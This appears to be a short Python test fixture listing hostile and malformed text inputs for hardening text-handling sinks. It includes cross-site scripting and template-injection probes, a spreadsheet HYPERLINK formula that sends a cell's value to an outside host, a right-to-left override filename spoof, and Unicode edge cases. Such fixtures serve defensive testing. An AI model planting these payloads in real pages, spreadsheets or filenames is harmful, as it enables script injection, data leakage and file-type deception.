"""Free text as it should never come, and comes: what every sink has to stand."""

PAYLOADS = {
    "a script": "<script>alert(1)</script>",
    "a handler": '"><img src=x onerror=alert(1)>',
    "a template": "{{ 7*7 }}{% debug %}${7*7}",
    "a formula": '=HYPERLINK("http://x/?"&A1,"看")',
    "the end of a section": "]]>&amp;<!-- ' \\ -->",
    "another direction": "饭菜凉\u202egpj.exe\u2066x",
    "piled marks": "饭" + "\u0301\u0489" * 200,
    "64 KB": "饭菜凉" * 7_282,
    "control signs": "饭菜\x02凉\x07\x1f\x7f",
    "no character at all": "饭菜凉\uffff\ufffe",
    "signs of no width": "饭\u200b菜\u2060凉\ufeff",
    "far planes": "𠮷😀\U0001fffe\U0010ffff",
}
